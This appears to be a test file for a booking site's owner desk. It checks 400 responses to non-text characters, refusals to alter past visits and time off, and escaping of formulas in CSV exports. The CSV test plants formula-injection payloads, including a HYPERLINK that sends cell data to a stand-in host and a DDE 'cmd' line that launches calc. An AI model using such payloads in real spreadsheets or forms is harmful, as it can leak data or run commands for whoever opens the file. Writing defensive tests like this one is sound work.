/**
 * What the owner's desk makes of what it should not take, on PGlite and on a real PostgreSQL
 * server, under the production server with a real SMTP server on loopback: a character that is no
 * text (NUL, lone surrogates, noncharacters) is answered as any address is when asking for a link,
 * and with 400, never a 5xx, in every action; the CSV runs no formula; and the past is not
 * rewritten (a visit that has started, time off before today).
 */
import { spawnSync } from "node:child_process";
import path from "node:path";
import { openStartsOf } from "../support/start-dispenser";
import { SHORT_JOB } from "../support/sample-requests";
import { desk, deskEngines, deskGet, signIn, visitors } from "../support/desk-client";
import { deskServerForTests } from "../support/desk-server";
import { siteRoot } from "../../scripts/lib/site-copy";

const DAY_MS = 24 * 60 * 60 * 1000;
const NEUTRAL = "someone@example.com";
/** What is no text: NUL, lone surrogates and noncharacters. */
const NOT_TEXT = ["\u0000", "\ud800", "\udc00", "\uffff", "\ufdd0", "\u{10fffe}"];

const { book } = visitors("sign-in-visitor");

describe.each(deskEngines)("the desk's guards on %s", (_name, setup) => {
  const site = deskServerForTests(setup);
  const { inDatabase } = site;

  it("answers the desk's addresses and any other alike, with NUL, lone surrogates and noncharacters", async () => {
    const neutral = await desk(site.server.url, "link", { email: NEUTRAL });
    for (const character of NOT_TEXT) {
      for (const email of [
        `office+${character}@severnridgeinspections.com`,
        `someone+${character}@severnridgeinspections.com`,
        `someone+${character}@example.com`,
        `office@severnridgeinspections.com${character}`,
      ]) {
        const answer = await desk(site.server.url, "link", { email });
        expect([JSON.stringify(email), answer.status, answer.body]).toEqual([JSON.stringify(email), 200, neutral.body]);
      }
    }
  });

  it("answers 400, never 5xx, to a character that is not text in any desk action", async () => {
    const cookie = await signIn(site.server.url, site.mailbox);
    for (const character of NOT_TEXT) {
      const reference = `SR-${character}-1`;
      for (const action of [
        "confirm",
        "cancel",
        "move",
        "hand",
        "resend",
        "resend-signing",
        "report-upload-link",
        "report-attach",
        "report-release",
        "time-off-remove",
      ]) {
        const answer = await desk(
          site.server.url,
          action,
          { reference, start: "2030-01-02T10:00", inspector: 2 },
          cookie,
        );
        expect([action, JSON.stringify(character), answer.status]).toEqual([action, JSON.stringify(character), 400]);
      }
      const from = new Date(Date.now() + 5 * DAY_MS).toISOString().slice(0, 10);
      const timeOff = await desk(
        site.server.url,
        "time-off",
        { inspector: 1, from: `${from}T09:00`, to: `${from}T10:00`, note: `dentist ${character}` },
        cookie,
      );
      expect(timeOff.status).toBe(400);
      expect((await desk(site.server.url, "sign-in", { token: `a${character}b` })).status).toBe(400);
      expect((await desk(site.server.url, "end-by-notice", { end: `a${character}b` })).status).toBe(400);
      expect((await desk(site.server.url, "end-session", { number: 1, [`x${character}`]: 1 }, cookie)).status).toBe(
        400,
      );
    }
    expect(site.server.logs()).not.toMatch(/unexpected error/);
  });

  it("writes no formula into the CSV, in the desk's download and in npm run requests -- --csv", async () => {
    const [start] = await openStartsOf(site.server.url, SHORT_JOB);
    const answer = await book(site.server.url, start!, {
      name: '=HYPERLINK("http://x.example/?"&A1,"y")',
      street: "@SUM(A1) Lane",
      agentName: "-2+3+cmd|' /C calc'!A0",
      agentEmail: "agent@example.com",
    });
    expect(answer.status).toBe(201);
    const cookie = await signIn(site.server.url, site.mailbox);
    const download = await deskGet(site.server.url, "csv", cookie);
    expect(download.status).toBe(200);
    const printed = spawnSync(
      process.execPath,
      ["--import", "tsx", path.join(siteRoot, "scripts", "commands", "requests.ts"), "--csv"],
      { cwd: siteRoot, encoding: "utf8", env: { ...process.env, DATA_DIR: site.server.dataDir, ...site.env } },
    );
    expect(printed.status).toBe(0);
    for (const csv of [download.body, printed.stdout]) {
      expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""y"")"`);
      expect(csv).toContain(`"'@SUM(A1) Lane`);
      expect(csv).toContain(`"'-2+3+cmd|' /C calc'!A0"`);
      // No cell anywhere starts as a formula would.
      expect(csv).not.toMatch(/(^|,)"[=+\-@\t\r]/m);
    }
  });

  it("refuses to cancel, move or hand over a visit that has started, and time off before today or past a year", async () => {
    const cookie = await signIn(site.server.url, site.mailbox);
    const [start] = await openStartsOf(site.server.url, SHORT_JOB);
    const answer = await book(site.server.url, start!);
    const { reference } = JSON.parse(answer.body) as { reference: string };
    expect((await desk(site.server.url, "confirm", { reference }, cookie)).status).toBe(200);
    // The visit made history: moved to a year before, where nothing else is.
    await inDatabase((db) =>
      db.query(
        `UPDATE bookings SET start_at = start_at - interval '400 days',
           during = tstzrange(lower(during) - interval '400 days', upper(during) - interval '400 days')
         WHERE reference = $1`,
        [reference],
      ),
    );
    for (const [action, body] of [
      ["cancel", { reference }],
      ["move", { reference, start: start!.slice(0, 16), outsideHours: true }],
      ["hand", { reference, inspector: 2 }],
      ["hand", { reference, inspector: 1 }],
    ] as const) {
      const refused = await desk(site.server.url, action, body, cookie);
      expect([action, refused.status, refused.body]).toEqual([
        action,
        409,
        expect.stringMatching(/^This visit started on /),
      ]);
    }
    const [row] = await inDatabase((db) =>
      db.query<{ status: string; moves: number }>("SELECT status, moves FROM bookings WHERE reference = $1", [
        reference,
      ]),
    );
    expect(row).toMatchObject({ status: "booked", moves: 0 });

    const timeOff = (from: string, to: string) =>
      desk(site.server.url, "time-off", { inspector: 1, from, to, note: "" }, cookie);
    const past = await timeOff("2020-03-02T09:00", "2020-03-02T12:00");
    expect([past.status, past.body]).toEqual([400, "Time off starts today at the earliest: the days before are over."]);
    const yearOn = new Date(Date.now() + 366 * DAY_MS).toISOString().slice(0, 10);
    const far = await timeOff(`${yearOn}T09:00`, `${yearOn}T12:00`);
    expect([far.status, far.body]).toEqual([400, "Time off ends within a year from today."]);
  });
});
